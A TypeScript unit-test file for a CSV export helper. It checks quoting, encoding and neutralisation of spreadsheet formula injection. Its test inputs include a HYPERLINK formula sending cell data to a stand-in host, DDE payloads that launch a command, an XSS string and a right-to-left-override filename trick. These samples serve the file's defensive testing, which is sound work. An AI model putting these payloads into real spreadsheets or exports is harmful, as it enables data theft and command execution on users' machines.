import { describe, expect, it } from 'vitest';
import fc from 'fast-check';
import { csvCell, csvText, toCsv, unguardCsvText, type CsvCell } from './csv';
import { readCsv } from '../../../tests/unit/reference';

describe('toCsv', () => {
  it('starts with a UTF-8 BOM and ends every line with CRLF', () => {
    const csv = toCsv(['Mã', 'Tên'], [['03424', 'Xã Bản Bo']]);
    expect(csv).toBe('\uFEFFMã,Tên\r\n03424,Xã Bản Bo\r\n');
    expect(new TextEncoder().encode(csv).slice(0, 3)).toEqual(new Uint8Array([0xef, 0xbb, 0xbf]));
  });

  it('quotes commas, quotes and line breaks (RFC 4180)', () => {
    expect(csvCell('Văn hóa - xã hội, môi trường')).toBe('"Văn hóa - xã hội, môi trường"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('a\nb')).toBe('"a\nb"');
    // A carriage return is an invisible control character to the free-text rule: made visible.
    expect(csvCell('a\r\nb')).toBe('"a\uFFFD\nb"');
  });

  it('writes numbers, booleans and missing values plainly', () => {
    expect(toCsv(['a', 'b', 'c', 'd', 'e', 'f'], [[17.3, -3, true, null, undefined, Number.NaN]])).toBe(
      '\uFEFFa,b,c,d,e,f\r\n17.3,-3,true,,,\r\n',
    );
  });

  it('writes dates as ISO days and keeps negative numbers numeric while guarding "-" text', () => {
    expect(csvCell(new Date(Date.UTC(2024, 11, 25)))).toBe('2024-12-25');
    expect(csvCell(new Date(Number.NaN))).toBe('');
    expect(csvCell(-12.5)).toBe('-12.5');
    expect(csvCell('-12.5')).toBe("'-12.5");
  });

  it('neutralises formulas in text cells (CSV injection)', () => {
    const hostile = [
      '=HYPERLINK("http://evil.example/?x="&A1,"click")',
      '+1+1',
      '-2+3',
      '@SUM(A1:A2)',
      "   =cmd|' /C calc'!A0",
      // Issue 20: other widths, other leading whitespace, the pipe of DDE.
      '＝1+1',
      '＋1',
      '－1',
      '＠SUM(A1)',
      '\n=1+1',
      '\u00a0=1+1',
      '\u3000=1+1',
      "|cmd' /C calc'!A0",
    ];
    for (const h of hostile) {
      const out = csvCell(h);
      const unquoted = out.startsWith('"') ? out.slice(1, -1).replace(/""/g, '"') : out;
      expect(unquoted.startsWith("'")).toBe(true);
      expect(unquoted.slice(1)).toBe(h);
    }
    expect(csvCell('Xã = tốt')).toBe('Xã = tốt');
    expect(csvCell('QĐ 12 = 3-4 @tỉnh | ＝')).toBe('QĐ 12 = 3-4 @tỉnh | ＝');
    expect(csvCell('<img src=x onerror=alert(1)>')).toBe('<img src=x onerror=alert(1)>');
  });

  it('makes invisible characters visible (U+FFFD), so a formula behind them is plain text', () => {
    expect(csvCell('\t=1+1')).toBe('\uFFFD=1+1');
    expect(csvCell('\r=1+1')).toBe('\uFFFD=1+1');
    expect(csvCell('\u200b=1')).toBe('\uFFFD=1');
    expect(csvCell('\ufeff=1')).toBe('\uFFFD=1');
    expect(csvCell('\u2028=1')).toBe('\uFFFD=1');
    expect(csvCell('Số \u202eFDP.exe')).toBe('Số \uFFFDFDP.exe');
    expect(csvCell('a\u0007b\u001bc')).toBe('a\uFFFDb\uFFFDc');
    // A note's line feed is kept (quoted).
    expect(csvCell('dòng 1\ndòng 2')).toBe('"dòng 1\ndòng 2"');
  });

  it('takes the apostrophe off exactly what it guarded', () => {
    expect(unguardCsvText(csvText('=1'))).toBe('=1');
    expect(unguardCsvText("'tên")).toBe("'tên");
    // An apostrophe before a formula is refused by the rule, so guarded again: it comes back as it was.
    expect(unguardCsvText(csvText("'=1"))).toBe("'=1");
  });

  it('reads back to the same cells (apart from the apostrophe guard) with an RFC 4180 reader', () => {
    const cell = fc.oneof(
      fc.string(),
      fc.string({ unit: 'grapheme' }),
      fc.constantFrom('=1', 'a,b', '"', '\r\n'),
    );
    fc.assert(
      fc.property(fc.array(fc.tuple(cell, cell), { minLength: 1, maxLength: 5 }), (rows) => {
        const text = toCsv(['x', 'y'], rows as CsvCell[][]);
        const back = readCsv(text);
        expect(back).toHaveLength(rows.length);
        back.forEach((r, i) => {
          for (const [k, j] of [
            ['x', 0],
            ['y', 1],
          ] as const) {
            const orig = rows[i]![j];
            const got = r[k]!;
            expect(got).toBe(typeof orig === 'string' ? csvText(orig) : orig);
          }
        });
      }),
    );
  });
});
